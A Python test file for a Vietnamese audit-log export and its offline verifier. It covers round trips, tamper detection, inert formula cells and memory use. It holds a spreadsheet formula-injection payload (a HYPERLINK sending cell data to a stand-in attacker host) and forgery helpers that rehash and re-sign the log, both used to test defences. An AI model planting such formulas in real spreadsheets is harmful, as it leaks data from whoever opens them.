"""Exports an inspector verifies offline (WEB-8, WEB-9): every format through the real
``tdkt-verify``, each kind of tampering named at its line, formula cells made inert, and an
export whose memory does not grow with the trail."""

from __future__ import annotations

import csv
import hashlib
import json
import re
import subprocess
import sys
import tracemalloc
from datetime import datetime, timedelta
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import insert, select

from service.audit import checkpoints
from service.audit import export as audit_export
from service.audit import log as audit_log
from service.audit.chain import CHAINED_FIELDS, GENESIS, event_hash
from service.audit.signing import AuditSigner
from service.audit.verify_file import decode_cell
from service.config import PROJECT_ROOT
from service.db.models import AuditEvent
from service.db.session import UnitOfWork
from service.usecases.errors import InvalidInput
from tests.support.api import login, open_dossier

VERIFY = Path(sys.executable).with_name("tdkt-verify")
BOTH = pytest.mark.parametrize("db_url", ["sqlite", "postgresql"], indirect=True)
FORMULA = '=HYPERLINK("http://ke-gian.example/?d="&A1,"Bấm vào đây")'
# Values the cell encoding must carry back exactly (module docstring of export.py).
AWKWARD = [FORMULA, "+84 912 345 678", "-1", "@SUM(A1)", "\tthụt lề", "\rđầu dòng",
           "'đã có dấu nháy", "\\N", "\\đường\\dẫn", "", None, "Dòng một\r\nDòng hai",
           "  khoảng trắng  ", "Ý kiến: đồng ý"]
COMMENT = list(audit_export.FIELDS).index("comment")
MiB = 1024 * 1024
EVERYTHING = audit_export.ExportFilter()


def _tdkt(app):
    return app.extensions["tdkt"]


def _append(app, comments) -> None:
    """Events through the service's own append, one per comment."""
    with UnitOfWork(_tdkt(app).engine) as uow:
        for n, comment in enumerate(comments):
            audit_log.append(uow.session, audit_log.Actor(7, "donvi1", "unit_staff", 3,
                                                          "Phòng Văn hóa"),
                             audit_log.RequestContext(f"req-{n}", "10.0.0.1"),
                             audit_log.EventInput(action="task.completed", target_type="task",
                                                  target_id=f"00{n}", comment=comment,
                                                  details={"bước": n}))
        uow.commit()


def _bulk_append(app, count: int, start: datetime = datetime(2020, 1, 1)) -> None:
    """Many chained events, fast: built here with ``event_hash`` and inserted with Core (the
    append-only guard refuses UPDATE and DELETE, not INSERT)."""
    table = AuditEvent.__table__
    with _tdkt(app).engine.begin() as conn:
        head = conn.execute(select(table.c.id, table.c.hash)
                            .order_by(table.c.id.desc()).limit(1)).first()
        first_id, prev = (head.id + 1, head.hash) if head else (1, GENESIS)
        rows = []
        for n in range(count):
            at = start + timedelta(seconds=n)
            record = dict.fromkeys(CHAINED_FIELDS) | {
                "id": first_id + n, "at": f"{at:%Y-%m-%dT%H:%M:%S.%f}Z", "actor": "system",
                "action": "dossier.updated", "dossier_id": n % 50, "comment": f"Lần sửa {n}",
                "details": json.dumps({"n": n}), "documents": "[]", "prev_hash": prev}
            record["hash"] = prev = event_hash(record)
            rows.append({**record, "at": at})
            if len(rows) == 10_000:
                conn.execute(insert(table), rows)
                rows = []
        if rows:
            conn.execute(insert(table), rows)


def _export(app, path: Path, params: audit_export.ExportFilter = EVERYTHING, **kw) -> int:
    tdkt = _tdkt(app)
    with path.open("wb") as out:
        return audit_export.write_to(tdkt.engine, path.suffix.lstrip("."), params,
                                     tdkt.audit_signer, tdkt.store, out, **kw)


def _verify(path: Path, key: str | None) -> subprocess.CompletedProcess:
    """The real console script, as an inspector runs it."""
    args = [str(VERIFY), str(path)] + (["--public-key", key] if key else [])
    return subprocess.run(args, capture_output=True, text=True, timeout=300)


def _key(app) -> str:
    return _tdkt(app).audit_signer.public_key


def _lines(path: Path) -> list[str]:
    return path.read_text(encoding="utf-8").split("\n")[:-1]


def _write_lines(path: Path, lines: list[str]) -> None:
    path.write_text("".join(line + "\n" for line in lines), encoding="utf-8")


# -- round trips --------------------------------------------------------------------------------


@BOTH
@pytest.mark.parametrize("fmt", audit_export.FORMATS)
def test_every_format_verifies_with_the_pinned_key(app, tmp_path, fmt):
    _append(app, AWKWARD)
    path = tmp_path / f"nhat-ky.{fmt}"
    events = _export(app, path)
    result = _verify(path, _key(app))
    assert result.returncode == 0, result.stdout + result.stderr
    fingerprint = _tdkt(app).audit_signer.fingerprint
    assert result.stdout.startswith(f"Hợp lệ: {events} sự kiện (#1–#{events}), đầu chuỗi "
                                    f"#{events} (")
    assert result.stdout.rstrip().endswith(f"chữ ký của khóa {fingerprint}.")


@pytest.mark.parametrize("fmt", audit_export.FORMATS)
def test_an_auditor_downloads_a_verifiable_export(app, tmp_path, fmt):
    _append(app, ["Đồng ý"])
    auditor = login(app.test_client(), "kiemtoan")
    response = auditor.get(f"/audit/export?format={fmt}")
    assert response.status_code == 200, response.get_json()
    assert response.headers["Content-Type"] == audit_export.MEDIA_TYPES[fmt]
    assert re.fullmatch(rf'attachment; filename="nhat-ky-\d{{8}}T\d{{6}}Z\.{fmt}"',
                        response.headers["Content-Disposition"])
    path = tmp_path / f"tai-ve.{fmt}"
    path.write_bytes(response.data)
    result = _verify(path, _key(app))
    assert result.returncode == 0, result.stdout
    with UnitOfWork(_tdkt(app).engine, write=False) as uow:
        exported = [e for e in audit_log.iter_events(uow.session)
                    if e.action == "audit.exported"]
    assert [(e.actor, json.loads(e.details)["format"]) for e in exported] == [("kiemtoan", fmt)]


@pytest.mark.parametrize("args", [{}, {"from": "2024-01-31", "to": "2024-02-29"},
                                  {"to": "2024-12-31", "campaign": "3"}])
def test_a_filter_survives_as_dict_and_back(args):
    params = audit_export.ExportFilter.parse(args)
    assert audit_export.ExportFilter.from_dict(params.as_dict()) == params


def test_the_checkpoint_is_committed_before_the_first_byte(app):
    _append(app, ["Đồng ý"])
    tdkt = _tdkt(app)
    body = audit_export.stream(tdkt.engine, "jsonl", EVERYTHING, tdkt.audit_signer,
                               tdkt.store)
    with UnitOfWork(tdkt.engine, write=False) as uow:
        checkpoint = checkpoints.latest(uow.session)
    assert checkpoint.reason == "export"
    trailer = json.loads(b"".join(body).decode().split("\n")[-2])
    assert trailer["checkpoint"] == checkpoint.as_dict()
    assert trailer["chain_head"] == {"id": checkpoint.event_id, "hash": checkpoint.event_hash}


@BOTH
def test_a_campaign_export_verifies_and_a_removed_line_is_caught(app, tmp_path):
    _append(app, ["Không thuộc đợt nào"])
    donvi = login(app.test_client(), "donvi1")
    dossier = open_dossier(donvi)
    donvi.decide(dossier["id"], "approve")
    auditor = login(app.test_client(), "kiemtoan")
    response = auditor.get(f"/audit/export?format=jsonl&campaign={dossier['campaign_id']}")
    path = tmp_path / "dot.jsonl"
    path.write_bytes(response.data)
    lines = _lines(path)
    assert {json.loads(line)["dossier_id"] for line in lines[:-1]} == {dossier["id"]}
    assert _verify(path, _key(app)).returncode == 0

    _write_lines(path, lines[1:])
    result = _verify(path, _key(app))
    assert result.returncode == 1
    assert result.stdout.startswith(f"Không hợp lệ tại dòng {len(lines) - 1} (dòng kết thúc): "
                                    f"dòng kết thúc ghi {len(lines) - 1} sự kiện")


def test_a_date_range_export_holds_that_range_only(app, tmp_path):
    # One a second from 23:00 on 1 January in Viet Nam (16:00 UTC): the dates of a filter are
    # days in Viet Nam, so half of them fall on 1 January and half on the 2nd.
    _bulk_append(app, 7200, start=datetime(2020, 1, 1, 16))
    _append(app, ["Hôm nay"])
    path = tmp_path / "ngay.csv"
    events = _export(app, path, audit_export.ExportFilter.parse({"from": "2020-01-01",
                                                                "to": "2020-01-01"}))
    assert events == 3600
    assert _verify(path, _key(app)).returncode == 0


# -- tampering ----------------------------------------------------------------------------------


def _forge(lines: list[str], index: int) -> list[str]:
    """What someone who can write the file but holds no key does: change one event, then
    recompute its hash and every later link so that the chain looks whole."""
    events = [json.loads(line) for line in lines[:-1]]
    events[index]["comment"] = "Đã sửa"
    prev = events[index]["prev_hash"]
    for event in events[index:]:
        event["prev_hash"] = prev
        event["hash"] = prev = event_hash(event)
    return [json.dumps(e, ensure_ascii=False) for e in events] + lines[-1:]


def _resign(lines: list[str], signer: AuditSigner) -> list[str]:
    """The forgery above with a trailer made anew and signed with the forger's own key."""
    forged = _forge(lines, len(lines) - 5)
    events = [json.loads(line) for line in forged[:-1]]
    trailer = json.loads(forged[-1])
    trailer["digest"] = _digest(events)
    trailer["chain_head"]["hash"] = events[-1]["hash"]
    checkpoint = trailer["checkpoint"]
    checkpoint.update(hash=events[-1]["hash"], public_key=signer.public_key)
    checkpoint["signature"] = signer.sign({k: checkpoint[k]
                                           for k in ("type", "event_id", "hash", "at")})
    trailer["public_key"] = signer.public_key
    del trailer["signature"]
    trailer["signature"] = signer.sign(trailer)
    return forged[:-1] + [json.dumps(trailer, ensure_ascii=False)]


def _digest(events: list[dict]) -> str:
    return hashlib.sha256("".join(f"{e['id']}:{e['hash']}\n" for e in events)
                          .encode()).hexdigest()


FORGER = AuditSigner("la-khoa-cua-ke-gia-mao")


def _edited(line: str) -> str:
    event = json.loads(line)
    event["comment"] = "Ý kiến khác"
    return json.dumps(event, ensure_ascii=False)


# A whole export holds event #k on line k: n events, then the trailer on line n + 1. Each change
# is made at line t, then where the verifier must point: the line, what is on it, words of
# the reason.
JSONL_TAMPERING = {
    "edit": (lambda ls, i: ls[:i] + [_edited(ls[i])] + ls[i + 1:],
             "dòng {t} (sự kiện #{t})", "nội dung sự kiện đã bị thay đổi"),
    "delete": (lambda ls, i: ls[:i] + ls[i + 1:], "dòng {t} (sự kiện #{t_1})",
               "thiếu sự kiện #{t} "),
    "swap": (lambda ls, i: ls[:i] + [ls[i + 1], ls[i]] + ls[i + 2:],
             "dòng {t_1} (sự kiện #{t})", "đổi chỗ"),
    "cut before the trailer": (lambda ls, i: ls[:-1], "dòng {n} (sự kiện #{n})",
                               "thiếu dòng kết thúc"),
    "cut inside a line": (lambda ls, i: ls[:-2] + [ls[-2][:40]], "dòng {n}", "không đọc được"),
    "forged and rehashed": (lambda ls, i: _forge(ls, i), "dòng {n_1} (dòng kết thúc)",
                            "mã tóm tắt không khớp"),
    "re-signed with another key": (lambda ls, i: _resign(ls, FORGER),
                                   "dòng {n_1} (dòng kết thúc)",
                                   "không khớp với khóa công khai đã ghim"),
}


@pytest.mark.parametrize("change", JSONL_TAMPERING)
def test_tampering_with_a_jsonl_export_is_named_at_its_line(app, tmp_path, change):
    tamper, where, reason = JSONL_TAMPERING[change]
    _append(app, [f"Ý kiến {n}" for n in range(10)])
    path = tmp_path / "nhat-ky.jsonl"
    _export(app, path)
    lines = _lines(path)
    n = len(lines) - 1
    t = n - 6
    _write_lines(path, tamper(lines, t - 1))
    result = _verify(path, _key(app))
    assert result.returncode == 1, result.stdout
    numbers = {"t": t, "t_1": t + 1, "n": n, "n_1": n + 1}
    assert result.stdout.startswith(f"Không hợp lệ tại {where.format(**numbers)}: "), \
        result.stdout
    assert reason.format(**numbers) in result.stdout


def test_without_a_pinned_key_a_forger_s_key_is_shown_for_comparison(app, tmp_path):
    _append(app, [f"Ý kiến {n}" for n in range(10)])
    path = tmp_path / "nhat-ky.jsonl"
    _export(app, path)
    _write_lines(path, _resign(_lines(path), FORGER))
    result = _verify(path, None)
    assert result.returncode == 0
    assert "chưa ghim khóa công khai" in result.stdout
    assert FORGER.fingerprint in result.stdout
    assert _tdkt(app).audit_signer.fingerprint not in result.stdout


def test_a_checkpoint_older_than_the_last_event_is_checked_against_that_event(app, tmp_path):
    _append(app, [f"Ý kiến {n}" for n in range(10)])
    path = tmp_path / "nhat-ky.jsonl"
    _export(app, path)
    lines = _lines(path)
    middle = json.loads(lines[4])
    signer = _tdkt(app).audit_signer
    for signed_hash, expected in ((middle["hash"], 0), ("ab" * 32, 1)):
        trailer = json.loads(lines[-1])
        payload = {**{k: trailer["checkpoint"][k] for k in ("type", "at")},
                   "event_id": middle["id"], "hash": signed_hash}
        trailer["checkpoint"].update(payload, signature=signer.sign(payload))
        del trailer["signature"]
        trailer["signature"] = signer.sign(trailer)
        _write_lines(path, lines[:-1] + [json.dumps(trailer)])
        result = _verify(path, _key(app))
        assert result.returncode == expected, result.stdout
    assert result.stdout.startswith("Không hợp lệ tại dòng 5 (sự kiện #5): mã băm khác mã đã "
                                    "ký ở điểm kiểm")


def _csv_rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def _write_csv(path: Path, rows: list[list[str]]) -> None:
    with path.open("w", encoding="utf-8-sig", newline="") as fh:
        csv.writer(fh).writerows(rows)


def _edit_csv(path: Path, row: int) -> None:
    rows = _csv_rows(path)
    rows[row - 1][COMMENT] = "Ý kiến khác"
    _write_csv(path, rows)


def _delete_csv(path: Path, row: int) -> None:
    rows = _csv_rows(path)
    _write_csv(path, rows[:row - 1] + rows[row:])


def _edit_xlsx(path: Path, row: int) -> None:
    book = load_workbook(path)
    book["NhatKy"].cell(row=row, column=COMMENT + 1).value = "Ý kiến khác"
    book.save(path)


def _delete_xlsx(path: Path, row: int) -> None:
    book = load_workbook(path)
    book["NhatKy"].delete_rows(row)
    book.save(path)


# Rows: the header is row 1, event #n is row n + 1.
@pytest.mark.parametrize(("fmt", "tamper", "subject", "reason"), [
    ("csv", _edit_csv, 4, "nội dung sự kiện đã bị thay đổi"),
    ("csv", _delete_csv, 5, "thiếu sự kiện #4"),
    ("xlsx", _edit_xlsx, 4, "nội dung sự kiện đã bị thay đổi"),
    ("xlsx", _delete_xlsx, 5, "thiếu sự kiện #4"),
])
def test_tampering_with_a_spreadsheet_export_is_named_at_its_row(app, tmp_path, fmt, tamper,
                                                                   subject, reason):
    _append(app, [f"Ý kiến {n}" for n in range(10)])
    path = tmp_path / f"nhat-ky.{fmt}"
    _export(app, path)
    tamper(path, 5)
    result = _verify(path, _key(app))
    assert result.returncode == 1, result.stdout
    assert result.stdout.startswith(f"Không hợp lệ tại dòng 5 (sự kiện #{subject}): {reason}")


# -- formulas and cells -------------------------------------------------------------------------


@pytest.mark.parametrize("value", AWKWARD)
@pytest.mark.parametrize("name", ["comment", "target_id", "dossier_id"])
def test_cell_encoding_gives_back_the_hashed_value(value, name):
    if name == "dossier_id" and isinstance(value, str):
        value = len(value) - 5  # negative, zero and positive integers
    cell = audit_export.cell_text(value)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert decode_cell(cell, name) == value


def test_a_formula_is_exported_as_inert_text_and_still_verifies(app, tmp_path):
    _append(app, [FORMULA])
    csv_path, xlsx_path = tmp_path / "nhat-ky.csv", tmp_path / "nhat-ky.xlsx"
    _export(app, csv_path)
    _export(app, xlsx_path)
    assert _csv_rows(csv_path)[-2][COMMENT] == "'" + FORMULA
    book = load_workbook(xlsx_path)
    cell = book["NhatKy"].cell(row=book["NhatKy"].max_row - 1, column=COMMENT + 1)
    assert (cell.value, cell.data_type) == ("'" + FORMULA, "s")
    book.close()
    for path in (csv_path, xlsx_path):
        assert _verify(path, _key(app)).returncode == 0


def test_a_value_too_long_for_a_spreadsheet_cell_refuses_xlsx_only(app, tmp_path):
    _append(app, ["Rất dài " * 5000])
    refused = r"Sự kiện #\d+, trường “comment”: giá trị dài quá 32\.767"
    with pytest.raises(InvalidInput, match=refused):
        _export(app, tmp_path / "nhat-ky.xlsx")
    _export(app, tmp_path / "nhat-ky.csv")
    assert _verify(tmp_path / "nhat-ky.csv", _key(app)).returncode == 0


def test_an_xlsx_export_stops_at_the_rows_excel_can_open(app, tmp_path, monkeypatch):
    _bulk_append(app, 1500)
    monkeypatch.setattr(audit_export, "_XLSX_MAX_EVENTS", 1200)
    with pytest.raises(InvalidInput, match="tối đa 1.048.574 sự kiện"):
        _export(app, tmp_path / "nhat-ky.xlsx")


# -- the verifier stands alone ------------------------------------------------------------------

BLOCKED = ("flask", "flask_babel", "flask_wtf", "werkzeug", "sqlalchemy", "alembic", "psycopg",
           "service.db", "service.usecases", "service.web", "service.jobs", "service.app",
           "service.audit.log", "service.audit.export", "service.audit.checkpoints")
ALONE = f"""
import sys
for name in {BLOCKED!r}:
    sys.modules[name] = None
from service.audit import verify_file
sys.exit(verify_file.main(sys.argv[1:]))
"""


def test_the_verifier_runs_without_flask_sqlalchemy_or_the_database(app, tmp_path):
    _append(app, AWKWARD)
    for fmt in audit_export.FORMATS:
        path = tmp_path / f"nhat-ky.{fmt}"
        _export(app, path)
        result = subprocess.run([sys.executable, "-c", ALONE, str(path), "--public-key",
                                 _key(app)], capture_output=True, text=True, cwd=tmp_path)
        assert result.returncode == 0, result.stderr
        assert result.stdout.startswith("Hợp lệ: ")


def test_an_unreadable_file_is_a_usage_error(tmp_path):
    path = tmp_path / "rac.bin"
    path.write_bytes(b"\x00\x01")
    assert _verify(path, None).returncode == 2
    assert _verify(tmp_path / "khong-co.jsonl", None).returncode == 2
    assert _verify(tmp_path / "khong-co.jsonl", "khong-phai-khoa").returncode == 2


# -- CLI and progress ---------------------------------------------------------------------------


def test_cli_export_shows_progress_records_itself_and_verifies(app, tmp_path):
    _append(app, [f"Ý kiến {n}" for n in range(5)])
    out = tmp_path / "nhat-ky.xlsx"
    signer = _tdkt(app).audit_signer
    result = app.test_cli_runner().invoke(args=["audit", "export", "--format", "xlsx",
                                                "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert "Đang xuất nhật ký" in result.output
    assert signer.fingerprint in result.output
    assert _verify(out, signer.public_key).returncode == 0
    with UnitOfWork(_tdkt(app).engine, write=False) as uow:
        last = list(audit_log.iter_events(uow.session))[-1]
    assert f"Đã xuất {last.id} sự kiện vào {out}" in result.output
    assert (last.action, last.actor, last.actor_id) == ("audit.exported", "system", None)

    key = app.test_cli_runner().invoke(args=["audit", "public-key"])
    assert key.output.splitlines() == [signer.public_key, f"Dấu vân tay: {signer.fingerprint}"]


def test_progress_counts_events_and_stops_at_the_total(app, tmp_path):
    _bulk_append(app, 2500)
    seen: list[int] = []
    events = _export(app, tmp_path / "a.jsonl", progress=seen.append)
    assert seen == [1000, 2000, events]
    seen.clear()
    _export(app, tmp_path / "b.jsonl", progress=seen.append, total=1800)
    assert seen == [1000, 1800, 1800]


# -- memory -------------------------------------------------------------------------------------


def _peak(app, path: Path) -> int:
    tracemalloc.start()
    try:
        _export(app, path)
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_memory_stays_flat_from_20k_to_200k_events(app, tmp_path):
    _bulk_append(app, 20_000)
    _export(app, tmp_path / "warm-up.jsonl")  # statements compiled, modules loaded
    small = _peak(app, tmp_path / "20k.jsonl")
    _bulk_append(app, 180_000)
    large = _peak(app, tmp_path / "200k.jsonl")
    size = (tmp_path / "200k.jsonl").stat().st_size
    report = (f"audit export, JSONL, SQLite, tracemalloc peak of write_to:\n"
              f"  20,000 events: {small / MiB:.2f} MiB\n"
              f"  200,000 events: {large / MiB:.2f} MiB ({large / small:.2f}x; "
              f"file {size / MiB:.0f} MiB)\n")
    print(report)
    artifacts = PROJECT_ROOT / "test-artifacts"
    artifacts.mkdir(exist_ok=True)
    (artifacts / "audit-export-memory.txt").write_text(report, encoding="utf-8")
    assert large < 40 * MiB
    assert large <= 1.5 * small
